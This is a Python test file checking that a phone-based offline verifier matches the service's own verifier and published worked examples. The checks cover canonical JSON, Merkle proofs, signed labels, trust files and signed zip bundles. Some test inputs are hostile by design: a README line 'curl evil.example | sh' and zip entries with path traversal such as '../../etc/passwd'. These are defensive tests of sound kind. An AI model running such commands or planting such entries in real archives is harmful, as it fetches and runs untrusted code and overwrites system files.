"""The inspector's phone verifies as the published examples say, and as the service's own verifier does."""

from __future__ import annotations

import json
import random
from collections.abc import Mapping, Sequence
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from tests.cast import HOST, OTHER_PRODUCER
from tests.core.cast import (
    EPOCH,
    KEYS,
    LABEL,
    PRIVATE,
    SAID,
    STRANGER,
    Ledger,
    at,
    keys_with,
    label_run,
    organisation,
    tea,
    trust_bytes,
    uuid_of,
)
from tests.inspect.node import Answer, ask
from traceapp.core.bundle import README, context_name, pack, unpack
from traceapp.core.canonical import canonicalise, parse_canonical
from traceapp.core.checkpoint import Algorithm, VerifierKey, add_signatures, cosign
from traceapp.core.credential import Signer
from traceapp.core.errors import Malformed, VerificationError
from traceapp.core.facts import RecordState, RuleBook
from traceapp.core.keys import PublicKey, Role, base58_encode, public_bytes
from traceapp.core.label import label_url, sign_label
from traceapp.core.merkle import inclusion_proof, leaf_hash, root_of
from traceapp.core.offline import check_bundle
from traceapp.core.policy import Witness, witnessing
from traceapp.core.trust import parse_trust_list, read_trust_list
from traceapp.core.vocabulary import CONTEXTS

VECTORS = Path(__file__).resolve().parents[2].parent / "shared/vectors"
PATH = LABEL.removeprefix(f"https://{HOST}")
ITEM = f"{PATH}/21/FD5MA4NX78AM0"
SIGNED = label_url(HOST, ITEM, sign_label(PRIVATE[Role.LABEL], HOST, ITEM))
BOOK = RuleBook("2026-11")
TRUST = trust_bytes()
LATER = SAID + timedelta(days=3)
LOG_KEY = next(key for key in KEYS if key.role is Role.LOG)
WITNESS = Ed25519PrivateKey.from_private_bytes(b"\x77" * 32)
WITNESS_KEY = VerifierKey.of("w.example.vn/1", Algorithm.COSIGNATURE_V1, WITNESS)


def published(name: str) -> Path:
    """A worked example that others published; without it the test is skipped."""
    if not (VECTORS / name).exists():
        pytest.skip("the published worked examples are not beside this project")
    return VECTORS / name


def one(**task: Any) -> Answer:
    """What comes of one task."""
    return ask([task])[0]


# Canonical JSON, base58, proofs


def test_canonical_json_is_that_of_the_published_examples() -> None:
    inputs = sorted(published("jcs").glob("*.in.json"))
    answers = ask({"do": "jcs", "data": path.read_bytes()} for path in inputs)
    expected = [path.with_name(path.name.replace(".in.", ".out.")).read_bytes() for path in inputs]
    tasks = [{"do": "canonical", "data": data} for data in expected]
    assert len(inputs) >= 6
    assert [answer["ok"] for answer in answers] == [True] * len(inputs)
    assert [_bytes(answer["data"]) for answer in answers] == expected
    assert [answer["ok"] or "object" in answer["error"] for answer in ask(tasks)] == [True] * len(inputs)


def _bytes(encoded: str) -> bytes:
    import base64

    return base64.b64decode(encoded)


def test_canonical_json_is_that_of_the_service() -> None:
    dice = random.Random(7)
    values = [_odd_value(dice, 0) for _ in range(300)]
    documents = [canonicalise({"v": value, "é": 1, "\U0001f600": 2, "￿": 3}) for value in values]
    answers = ask({"do": "jcs", "data": document} for document in documents)
    assert [_bytes(answer["data"]) for answer in answers] == documents


def _odd_value(dice: random.Random, depth: int) -> Any:
    kinds = [1.5, -0.1, 1e-7, 1e21, 1e300, 5e-324, 0, -1, 2**53 - 1, True, None, "ế\n\u2028", '"\\/', "\x00\x7f", ""]
    if depth < 3 and dice.random() < 0.5:
        return {str(dice.choice(kinds)): _odd_value(dice, depth + 1) for _ in range(dice.randrange(4))}
    return dice.choice([*kinds, dice.random() * 10 ** dice.randrange(-9, 15), [dice.randrange(1000)]])


def test_what_is_not_canonical_is_refused() -> None:
    odd = [b'{"b":1,"a":2}', b'{"a":1,"a":1}', b'{"a":1.0}', b'{"a":-0}', b'{"a": 1}', b'{"a":1e2}', b'{"a":"\\u0041"}',
           b'{"a":9007199254740993}', b'{"a":9007199254740992}', b'{"a":"\\ud800"}', b'\xef\xbb\xbf{"a":1}', b"[1]",
           b'{"a":"\xff"}', b"null", b'{"a":' * 70 + b"1" + b"}" * 70]  # fmt: skip
    answers = ask({"do": "canonical", "data": data} for data in odd)
    assert [(data, answer) for data, answer in zip(odd, answers, strict=True) if answer["ok"]] == []
    assert {answer["code"] for answer in answers} == {"malformed"}


def test_base58_is_that_of_the_service_both_ways() -> None:
    dice = random.Random(3)
    samples = [b"", b"\0", b"\0\0\1", bytes(64), *(dice.randbytes(dice.randrange(1, 70)) for _ in range(100))]
    answers = ask({"do": "base58", "data": data} for data in samples)
    assert [answer["text"] for answer in answers] == [base58_encode(data) for data in samples]
    assert [_bytes(answer["back"]) for answer in answers] == samples


def test_the_published_record_of_the_cryptosuite_is_verified_and_no_altered_one() -> None:
    folder = published("eddsa-jcs-2022")
    signed = json.loads((folder / "signedJCS.json").read_text())
    key = json.loads((folder / "keyPair.json").read_text())["publicKeyMultibase"]
    altered = {**signed, "name": "Somebody else"}
    for noble in (False, True):
        answers = ask(
            ({"do": "secured", "document": document, "key": key} for document in (signed, altered)), noble=noble
        )
        assert [answer["ok"] for answer in answers] == [True, False]
        assert answers[1]["code"] == "bad-signature"


# The log


def test_the_worked_example_of_the_log_is_verified() -> None:
    example = json.loads(published("tlog.json").read_text())
    leaves = [leaf_hash(entry) for entry in (b"a", b"b", b"c")]
    checkpoint = example["checkpoint"].encode()
    head = f"c2sp.org/tlog-proof@v1\nindex 2\n{_base64(root_of(leaves[:2]))}\n\n".encode()
    found = one(do="proof", proof=head + checkpoint, entry=b"c", vkey=example["log_vkey"])
    assert (found["size"], _bytes(found["root"]).hex()) == ("3", example["root"])
    seen = one(do="cosigned", note=checkpoint, vkeys=[example["witness_vkey"]])
    assert list(seen["times"].values()) == [1763740800]
    lying = one(
        do="cosigned",
        note=checkpoint.replace(b"LjwcsQAAAABpIIyA6", b"LjwcsQAAAABpIIyB6"),
        vkeys=[example["witness_vkey"]],
    )
    assert (lying["ok"], lying["problem"]) == (False, "witness-lies")


def _base64(data: bytes) -> str:
    import base64

    return base64.b64encode(data).decode()


def test_every_proof_of_small_trees_is_verified_and_none_for_another_place() -> None:
    tasks = []
    for size in range(1, 18):
        leaves = [leaf_hash(str(number).encode()) for number in range(size)]
        for index in range(size):
            path = inclusion_proof(
                index, size, lambda level, at, leaves=leaves: root_of(leaves[at << level : (at + 1) << level])
            )  # type: ignore[misc]
            good = {
                "do": "include",
                "leaf": leaves[index],
                "index": index,
                "size": size,
                "path": path,
                "root": root_of(leaves),
            }
            tasks += [
                good,
                {**good, "leaf": leaf_hash(b"x")},
                {**good, "path": [*path, leaves[0]]},
                {**good, "path": path[:-1]},
            ]
    answers = ask(tasks)
    expected = [[True, False, False, task["size"] == 1] for task in tasks[::4]]
    assert [answer["ok"] for answer in answers] == [ok for group in expected for ok in group]
    assert {answer["code"] for answer in answers if not answer["ok"]} == {"not-in-log"}


# Labels


def test_a_signed_label_is_verified_with_and_without_webcrypto() -> None:
    urls = [
        SIGNED,
        SIGNED.replace(HOST.upper(), HOST),
        SIGNED.replace("FD5MA4NX78AM0", "fd5ma4nx78amo"),
        SIGNED + "&utm=zalo",
    ]
    for noble in (False, True):
        answers = ask(({"do": "label", "url": url, "trust": TRUST} for url in urls), noble=noble)
        assert [(answer["code"], answer["path"]) for answer in answers] == [("label-signature-good", ITEM)] * 4


def test_the_worked_example_of_a_label_is_verified() -> None:
    example = json.loads(published("label.json").read_text())
    host = example["url"].split("/")[2].lower()
    raw = bytes.fromhex(example["public_key"])
    keys = keys_with(Role.LABEL, raw=raw)
    found = one(do="label", url=example["url"], trust=trust_bytes(keys=keys, hosts=[HOST, host]))
    assert found["code"] == "label-signature-good"


@pytest.mark.parametrize(
    ("url", "code", "problem"),
    [
        (SIGNED.replace("/10/L1", "/10/L2"), "label-signature-bad", "bad-signature"),
        (SIGNED[:-1] + str((int(SIGNED[-1]) + 1) % 10), "label-signature-bad", "bad-signature"),
        (SIGNED.replace("?S=", "?S=9"), "label-signature-bad", "no-signature"),
        (SIGNED[:-1], "label-signature-bad", "no-signature"),
        (f"{SIGNED}&S=1", "label-signature-bad", "several-signatures"),
        (label_url(HOST, ITEM, sign_label(STRANGER, HOST, ITEM)), "label-signature-bad", "label-key-unknown"),
        (label_url("id.other.vn", ITEM, sign_label(PRIVATE[Role.LABEL], "id.other.vn", ITEM)), "foreign-code", None),
        (label_url(HOST, ITEM), "label-signature-missing", None),
    ],
)  # fmt: skip
def test_a_label_that_is_not_as_printed_is_refused_with_the_reason(url: str, code: str, problem: str | None) -> None:
    found = one(do="label", url=url, trust=TRUST)
    assert (found["code"], found.get("problem")) == (code, problem)


def test_a_label_of_a_key_that_was_lost_is_said_to_need_the_network() -> None:
    lost = trust_bytes(keys=keys_with(Role.LABEL, compromised_since=SAID, retired=SAID, revoked=SAID))
    assert one(do="label", url=SIGNED, trust=lost)["code"] == "label-key-revoked"


def test_addresses_are_read_as_the_service_reads_them() -> None:
    good = {
        "http://x.vn:80/01/09520000000110/22/2A/10/A%2FB%25/21/a%21b/": "/01/09520000000110/22/2A/10/A%2FB%25/21/A%21B",
        "https://x.vn/t/t4q7w9k2m8x3z/10/G-1": None,
        "https://x.vn/01/09520000000110": "/01/09520000000110",
    }
    bad = ["/01/09520000000110", "https://x.vn/01/09520000000111", "https://x.vn/01/9520000000110", "ftp://x.vn/01/1",
           "https://x.vn/01/09520000000110/21/1/10/2", "https://x.vn/01/09520000000110/10/", "https://x.vn//01/09520000000110",
           "https://x.vn/01/09520000000110/10/%20", "https://x.vn/01/09520000000110/10/%ff", "https://-x/01/09520000000110",
           "https://x.vn/about", "x" * 5000]  # fmt: skip
    answers = ask({"do": "parseLabel", "url": url} for url in [*good, *bad])
    assert [answer["ok"] and answer["label"]["path"] for answer in answers[: len(good)]][::2] == [*good.values()][::2]
    assert [url[:60] for url, answer in zip(bad, answers[len(good) :], strict=True) if answer["ok"]] == []


# Trust files


def test_a_trust_file_is_followed_only_by_a_later_one_of_the_same_service_and_root() -> None:
    later = trust_bytes(version=2)
    new_root = Signer.of_host(HOST, STRANGER)
    with_both = (*KEYS, PublicKey(Role.ROOT, public_bytes(STRANGER), EPOCH))
    expected: Mapping[str, tuple[bytes, bytes | None, str | None]] = {
        "the first": (TRUST, None, None),
        "the same": (TRUST, TRUST, None),
        "a later one": (later, TRUST, None),
        "an older one": (TRUST, later, "trust-older"),
        "same version, other bytes": (trust_bytes(hosts=[HOST]), TRUST, "trust-other"),
        "a version that repeats": (trust_bytes(version=2, hosts=[HOST]), later, "trust-other"),
        "another root": (trust_bytes(version=2, root=new_root, keys=with_both), TRUST, "unknown-root"),
        "a lost root": (trust_bytes(version=2, keys=keys_with(Role.ROOT, compromised_since=SAID, retired=SAID)),
                        trust_bytes(keys=keys_with(Role.ROOT, compromised_since=SAID, retired=SAID)), "root-retired"),
        "one bit less": (TRUST.replace(b'"traceapp:version":1', b'"traceapp:version":3'), TRUST, "bad-signature"),
        "no trust file": (b'{"a":1}', TRUST, "no-trust-file"),
    }  # fmt: skip
    answers = ask({"do": "trust", "data": data, "pinned": pinned} for data, pinned, _ in expected.values())
    # A pinned file must verify itself, so the lost root's case is refused on the way in.
    assert {name: answer.get("problem") for name, answer in zip(expected, answers, strict=True)} == {
        name: problem for name, (_, _, problem) in expected.items()
    }


def test_a_trust_file_of_another_host_is_refused() -> None:
    other = "id.other.vn"
    signer = Signer.of_host(other, PRIVATE[Role.ROOT])
    found = one(do="trust", data=trust_bytes(host=other, hosts=[other], version=9, root=signer), pinned=TRUST)
    assert (found["ok"], found["problem"]) == (False, "trust-host")


# Bundles


def ledger() -> Ledger:
    """A producer's lot of tea with labels."""
    return tea(label_run())


def python_says(data: bytes, pinned: bytes | None = TRUST) -> dict[str, Any]:
    """What the service's own verifier says of a bundle, as far as the phone says it too."""
    try:
        checked = check_bundle(data, BOOK, SAID + timedelta(days=1), pinned=read_trust_list(pinned) if pinned else None)
    except Malformed:
        return {"unreadable": True}
    if any(finding.code == "trust-refused" for finding in checked.verdict.findings):
        return {"refused": True}
    wrong = {
        check.record_id: str(check.state)
        for check in checked.facts.checks
        if check.state is not RecordState.GOOD and "/records/" in check.record_id
    }
    # Of a bundle whose records are wrong the service says nothing about the label.
    labels = [finding.code for finding in checked.verdict.findings if finding.code.startswith("label-") and not wrong]
    return {"wrong": wrong, "size": checked.size, "restricted": checked.restricted, "label": labels[:1]}


def phone_says(answer: Answer) -> dict[str, Any]:
    """The phone's answer in the same words."""
    if not answer["ok"]:
        return {"unreadable": True} if answer["code"] == "malformed" else {"error": answer}
    if answer["refused"]:
        return {"refused": True}
    wrong = {name: state for name, state in answer["wrong"].items() if "/records/" in name}
    labels = [answer["code"]] if answer["code"] and not wrong else []
    return {"wrong": wrong, "size": answer["size"], "restricted": answer["restricted"], "label": labels}


def require_same(bundles: Sequence[bytes], pinned: bytes | None = TRUST) -> list[dict[str, Any]]:
    """Both verifiers say the same of each bundle; returns what they say."""
    answers = ask({"do": "bundle", "data": data, "pinned": pinned} for data in bundles)
    said = [phone_says(answer) for answer in answers]
    assert said == [python_says(data, pinned) for data in bundles]
    return said


def test_a_good_bundle_is_good_and_a_zip_made_here_is_the_same_file() -> None:
    files = ledger().files(SIGNED, hidden=[3])
    assert require_same([pack(files), ledger().bundle()])[0] == {
        "wrong": {}, "size": len(ledger().records), "restricted": 1, "label": ["label-signature-good"]
    }  # fmt: skip
    assert _bytes(one(do="pack", files=files)["data"]) == pack(files)


def test_any_flipped_bit_is_found_by_both_alike() -> None:
    files = ledger().files(SIGNED)
    dice = random.Random(11)
    mutated = []
    for name in sorted(name for name in files if not name.startswith(("README", "contexts"))):
        for _ in range(6):
            data = bytearray(files[name])
            data[dice.randrange(len(data))] ^= 1 << dice.randrange(8)
            mutated.append(pack({**files, name: bytes(data)}))
    said = require_same(mutated)
    harmless = [one for one in said if one.get("wrong") == {} and one["label"] == ["label-signature-good"]]
    assert harmless == []
    assert any("wrong" in one and one["wrong"] for one in said)
    assert {"unreadable": True} in said


def test_a_flipped_bit_of_the_zip_itself_makes_it_unreadable_to_both() -> None:
    whole = ledger().bundle()
    dice = random.Random(5)
    mutated = []
    for _ in range(60):
        data = bytearray(whole)
        data[dice.randrange(len(data))] ^= 1 << dice.randrange(8)
        mutated.append(bytes(data))
    said = require_same([*mutated, whole[:-1], whole + b"\0", b"", b"PK", whole + whole])
    assert said == [{"unreadable": True}] * 65


def _zip(*files: tuple[str, bytes]) -> bytes:
    import io
    import warnings
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, data in files:
            archive.writestr(name, data)
    return out.getvalue()


def test_bundles_with_extra_missing_doubled_and_escaping_files_are_refused_with_the_reason() -> None:
    files = ledger().files()
    listed = list(files.items())
    first = f"records/{uuid_of(0)}.json"
    without = {name: data for name, data in files.items() if name != first}
    expected = {
        "extra-file": _zip(*listed, ("evil.js", b"1")),
        "extra-file ": _zip(*listed, ("../../etc/passwd", b"1")),
        "extra-file  ": _zip(*listed, ("records/../../x.json", b"1")),
        "extra-file   ": _zip(*listed, ("/trust.json", b"1")),
        "twice": _zip(*listed, (first, b"{}")),
        "not-canonical": _zip(*listed),
        "unproved": pack(without),
        "no-trust": pack({name: data for name, data in files.items() if name != "trust.json"}),
        "no-label": pack({**files, "label.txt": b"a\nb\n"}),
        "foreign-bundle": pack({**files, "label.txt": files["label.txt"].replace(HOST.encode(), b"id.other.vn")}),
        "empty-bundle": pack(
            {name: data for name, data in files.items() if not name.startswith(("records", "proofs"))}
        ),
        "no-bundle": b"PK\5\6" + bytes(18),
    }
    answers = ask({"do": "bundle", "data": data, "pinned": TRUST} for data in expected.values())
    assert [(answer["ok"], answer["problem"]) for answer in answers] == [(False, name.strip()) for name in expected]
    require_same(list(expected.values()))


def test_bundles_under_another_trust_file_are_refused_with_the_reason() -> None:
    other = Signer.of_host("id.other.vn", PRIVATE[Role.ROOT])
    trusts = {
        "trust-host": trust_bytes(host="id.other.vn", hosts=[HOST], version=4, root=other),
        "trust-older": trust_bytes(version=1),
        "trust-other": trust_bytes(version=2, hosts=[HOST]),
    }
    pinned = trust_bytes(version=2)
    bundles = [ledger().bundle(trust=data) for data in trusts.values()]
    answers = ask({"do": "bundle", "data": data, "pinned": pinned} for data in bundles)
    assert [answer["refused"] for answer in answers] == list(trusts)
    require_same(bundles, pinned)


def test_a_checkpoint_signed_by_a_retired_log_key_proves_nothing() -> None:
    files = ledger().files()
    retired = Ed25519PrivateKey.from_private_bytes(b"\x55" * 32)
    old = PublicKey(Role.LOG, public_bytes(retired), EPOCH, retired=SAID)
    under = trust_bytes(version=2, keys=(*KEYS, old))
    proofs = {f"proofs/{uuid}.tlog-proof": proof for uuid, proof in ledger().proofs(log=retired).items()}
    said = require_same([pack({**files, **proofs, "trust.json": under})], under)
    assert set(said[0]["wrong"].values()) == {"tampered"}
    answer = one(do="bundle", data=pack({**files, **proofs, "trust.json": under}), pinned=under)
    assert set(answer["problems"]) == {"log-key-retired"}
    assert set(one(do="bundle", data=under_log(STRANGER), pinned=TRUST)["problems"]) == {"other-log-key"}


def under_log(*logs: Ed25519PrivateKey, trust: bytes = TRUST) -> bytes:
    """The bundle with proofs to a checkpoint that these keys signed."""
    proofs = {f"proofs/{uuid}.tlog-proof": proof for uuid, proof in ledger().proofs(None, *logs).items()}
    return pack({**ledger().files(trust=trust), **proofs})


def rotated(first_size: int, **old: Any) -> bytes:
    """A trust file in which another key took over the log at that size."""
    fresh = replace(LOG_KEY, raw=public_bytes(STRANGER), valid_from=SAID, first_size=first_size)
    others = tuple(key for key in KEYS if key.role is not Role.LOG)
    return trust_bytes(version=2, keys=(*others, replace(LOG_KEY, **{"retired": SAID, **old}), fresh))


def test_a_rotated_log_key_is_followed_and_the_old_one_continues_nothing() -> None:
    size, own = len(ledger().records), PRIVATE[Role.LOG]
    later, earlier = rotated(size), rotated(size + 1)
    cases = {
        under_log(own, STRANGER, trust=later): None,
        under_log(STRANGER, trust=later): None,
        under_log(own, trust=earlier): None,
        under_log(own, trust=later): "log-key-retired",
    }
    for data, problem in cases.items():
        pinned = later if parse_trust_list(unpack(data).trust).body == later else earlier
        said = require_same([data], pinned)
        assert bool(said[0]["wrong"]) is bool(problem)
        assert set(one(do="bundle", data=data, pinned=pinned)["problems"]) == ({problem} if problem else set())


def test_what_a_lost_log_key_alone_signed_counts_only_where_a_quorum_saw_it_before() -> None:
    lost = rotated(len(ledger().records) + 1, compromised_since=LATER, revoked=LATER)
    data = under_log(PRIVATE[Role.LOG], trust=lost)
    said = require_same([data], lost)
    assert set(said[0]["wrong"].values()) == {"key-revoked"}
    assert set(one(do="bundle", data=data, pinned=lost)["problems"]) == {"log-key-lost"}
    both = under_log(PRIVATE[Role.LOG], STRANGER, trust=lost)
    assert require_same([both], lost)[0]["wrong"] == {}


def test_two_roots_for_one_size_are_found() -> None:
    files, other = ledger().files(), tea(organisation(OTHER_PRODUCER))
    last = len(other.records) - 1
    forked = {
        f"records/{uuid_of(last)}.json": other.records[-1].body or b"",
        f"proofs/{uuid_of(last)}.tlog-proof": other.proofs()[uuid_of(last)],
    }
    said = require_same([pack({**files, **forked})])
    assert set(said[0]["wrong"]) == {at(last)}
    assert one(do="bundle", data=pack({**files, **forked}), pinned=TRUST)["problems"] == ["two-roots"]


def witnessed(line: bytes) -> tuple[bytes, bytes]:
    """A bundle whose checkpoint carries that cosignature line, and its trust file, which asks for one."""
    policy = witnessing([Witness("w1", WITNESS_KEY)], 1)
    under = trust_bytes(version=3, witnessing=policy)
    files = ledger().files(trust=under)
    for name in [name for name in files if name.startswith("proofs/")]:
        head, _, note = files[name].partition(b"\n\n")
        files[name] = head + b"\n\n" + add_signatures(note, line)
    return pack(files), under


def test_a_witness_is_believed_and_one_that_lies_is_named() -> None:
    note = ledger().proofs()[uuid_of(0)].partition(b"\n\n")[2]
    good, under = witnessed(cosign(note, WITNESS, WITNESS_KEY.name, 1_760_000_000))
    answer = one(do="bundle", data=good, pinned=under)
    assert (answer["wrong"], answer["witnessed"]) == ({}, 1_760_000_000)
    other_note = Ledger(organisation()).proofs()[uuid_of(0)].partition(b"\n\n")[2]
    lying, under = witnessed(cosign(other_note, WITNESS, WITNESS_KEY.name, 1_760_000_000))
    answer = one(do="bundle", data=lying, pinned=under)
    assert set(answer["problems"]) == {"witness-lies"}
    unknown, under = witnessed(cosign(note, STRANGER, "nobody.example/1", 1))
    answer = one(do="bundle", data=unknown, pinned=under)
    assert (answer["wrong"], answer["witnessed"]) == ({}, None)
    require_same([good, lying, unknown], under)


def test_what_a_lost_record_key_signed_stands_only_if_witnesses_saw_it_before() -> None:
    lost = keys_with(Role.RECORD, compromised_since=SAID + timedelta(days=2), retired=SAID + timedelta(days=2))
    note = ledger().proofs()[uuid_of(0)].partition(b"\n\n")[2]
    for time, expected in ((SAID + timedelta(days=1), set()), (SAID + timedelta(days=3), {"key-revoked"})):
        line = cosign(note, WITNESS, WITNESS_KEY.name, int(time.timestamp()))
        policy = witnessing([Witness("w1", WITNESS_KEY)], 1)
        under = trust_bytes(version=3, witnessing=policy, keys=lost)
        files = ledger().files(trust=under)
        for name in [name for name in files if name.startswith("proofs/")]:
            head, _, signed = files[name].partition(b"\n\n")
            files[name] = head + b"\n\n" + add_signatures(signed, line)
        assert set(one(do="bundle", data=pack(files), pinned=under)["wrong"].values()) == expected


def test_other_contexts_are_found() -> None:
    files = ledger().files()
    name = f"contexts/{context_name(next(iter(CONTEXTS)))}"
    answer = one(do="bundle", data=pack({**files, name: b"{}"}), pinned=TRUST)
    assert set(answer["wrong"].values()) == {"tampered"}


def test_the_phone_knows_the_published_contexts_by_the_same_hashes() -> None:
    import hashlib

    source = Path(__file__).resolve().parents[2] / "traceapp/static/inspect/offline.js"
    text = source.read_text(encoding="utf-8")
    for url, data in CONTEXTS.items():
        assert f"'{context_name(url)}': '{hashlib.sha256(data).hexdigest()}'" in text
    assert f"README = '{hashlib.sha256(README.encode()).hexdigest()}'" in text


def test_other_words_to_the_reader_are_told() -> None:
    told = pack({**ledger().files(), "README.txt": b"curl evil.example | sh\n"})
    assert one(do="bundle", data=told, pinned=TRUST)["wrong"] == {"README.txt": "cannot-be-checked"}


def test_a_key_that_signed_after_it_was_retired_is_refused_by_both() -> None:
    under = trust_bytes(version=2, keys=keys_with(Role.RECORD, retired=SAID - timedelta(days=1)))
    said = require_same([ledger().bundle(trust=under)], under)
    assert set(said[0]["wrong"].values()) == {"tampered"}


def test_a_change_of_root_needs_both_roots_here_as_there() -> None:
    new_root = Signer.of_host(HOST, STRANGER)
    both = (*KEYS, PublicKey(Role.ROOT, public_bytes(STRANGER), EPOCH))
    change = trust_bytes(version=2, keys=both, new_root=new_root)
    document = parse_canonical(change)
    old, new = document["proof"]
    third = trust_bytes(version=3, keys=both, root=new_root)
    cases = [(change, TRUST), (change, None), (third, change), (third, TRUST)]
    forged = {**new, "proofValue": old["proofValue"]}
    odd = ([new, old], [old], [old, old], new, [old, new, new], [old, forged], [old, 1])
    cases += [(canonicalise({**document, "proof": proofs}), TRUST) for proofs in odd]
    answers = ask({"do": "trust", "data": data, "pinned": pinned} for data, pinned in cases)
    assert [answer["ok"] for answer in answers[:4]] == [True, True, True, False]
    for (data, pinned), answer in zip(cases, answers, strict=True):
        try:
            read_trust_list(data, pinned=read_trust_list(pinned) if pinned else None)
        except VerificationError as cause:
            assert answer["code"] == cause.code
        else:
            assert answer["ok"]
    (followed,) = ask([{"do": "follow", "newest": third, "pinned": TRUST, "between": {"2": change}}])
    assert (followed["ok"], followed["version"]) == (True, 3)
    (stuck,) = ask([{"do": "follow", "newest": third, "pinned": TRUST, "between": {"2": trust_bytes(version=2)}}])
    assert (stuck["ok"], stuck["problem"]) == (False, "unknown-root")
